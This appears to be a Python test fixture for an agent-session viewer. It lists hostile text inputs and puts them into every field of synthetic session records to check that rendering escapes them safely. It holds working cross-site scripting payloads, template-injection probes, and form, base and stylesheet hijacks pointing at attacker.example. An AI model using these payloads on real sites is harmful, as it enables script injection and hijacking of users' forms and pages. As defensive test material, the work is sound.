"""What attackers write into the texts of an agent, and a session that has it in every text field."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

#: Each has the word SEEN: what shows it as an element, runs it or drops it is wrong.
TEXTS = {
    "script": "<script>alert('SEEN')</script>",
    "an end of a script": "</script><script>alert('SEEN')</script>",
    "an end of an attribute": "\"><img src=x onerror=alert('SEEN')>",
    "an end of a quoted attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(\"SEEN\")",
    "svg": "<svg onload=alert('SEEN')></svg>",
    "an animation": "<svg><animate onbegin=alert('SEEN') attributeName=x dur=1s>",
    "a frame": "<iframe srcdoc=\"<script>alert('SEEN')</script>\"></iframe>",
    "a link": "javascript:alert('SEEN')",
    "a link of data": "data:text/html,<script>alert('SEEN')</script>",
    "a template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7} SEEN",
    "a form": "<form action=//attacker.example><input name=csrf><button>SEEN",
    "a style": "<style>*{display:none}</style><link rel=stylesheet href=//attacker.example/SEEN>",
    "a base": "<base href=//attacker.example/><meta http-equiv=refresh content=0;url=//a.example/SEEN>",
    "a comment": "<!--<img src=--><img src=x onerror=alert('SEEN')//>",
    "an entity": "&lt;script&gt;alert('SEEN')&lt;/script&gt;&#60;b&#62;",
    "a clobbered name": "<a id=eddy-csrf name=main><form id=document name=SEEN>",
    "an end of raw text": "</title></textarea></style></noscript></template><img src=x onerror=alert(1)>SEEN",
    "a byte order mark": "\ufeff<script>alert('SEEN')</script>",
    "another order": "\u202e\u2066<script>alert('SEEN')</script>\u2069\u202c",
    "a zero": "SEEN\u0000<scr\u0000ipt>alert(1)</script>",
    "half a character": "SEEN\ud800<script>alert(1)</script>\udfff",
    "a terminal": "SEEN\u001b[2J\u001b]0;title\u0007\u009b31m",
    "many lines": "SEEN\r\n\u2028\u2029\u0085<script>alert(1)</script>",
    "a megabyte": "SEEN<img src=x onerror=alert(1)>" + "<b>A" * 250_000,
}


def steps(text: str) -> Iterator[bytes]:
    """Yield the records of a session that loops, with the text in every field that takes one."""
    for number in range(12):
        yield json.dumps(_record(text, number)).encode()


def _record(text: str, number: int) -> dict[str, Any]:
    long, text = text, text[:2_000]
    return {
        "session_id": text[:200],
        "event_id": f"{text[:100]}-{number}",
        "task_type": text,
        "meta": {
            "trace_id": text,
            "timestamp": 1_773_133_303_764 + 1_000 * number,
            "parent_step_id": text,
            "cluster_id": text,
        },
        "identity": {"agent_id": text[:200], "agent_type": text, "capability_version": text},
        "cognition": {"intent": text, "goal": text},
        "action": {
            "status": "failure" if number % 2 else "success",
            "tool_call": text,
            "tool_input": json.dumps({"query": long}),
            "tool_output_summary": long,
            "error": text,
        },
        "state_delta": {"tokens_consumed": 100, "cumulative_session_cost": 0.001 * number},
    }
